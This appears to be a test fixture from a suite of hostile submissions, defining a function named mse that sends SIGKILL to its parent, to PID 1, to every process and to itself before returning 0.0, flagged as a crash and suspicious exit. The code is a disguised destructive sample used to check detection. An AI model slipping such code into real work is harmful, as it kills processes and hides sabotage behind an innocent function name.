"""SIGKILL to itself, to the process that forked it and to everything else."""

from hostile.kit import Case

CODE = """
import os, signal
def mse(y_hat, y):
    for pid in (os.getppid(), 1, -1, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
"""
CASE = Case(13, "Z", CODE, flags=("crash", "suspicious:exits"), says="ended the Python process")
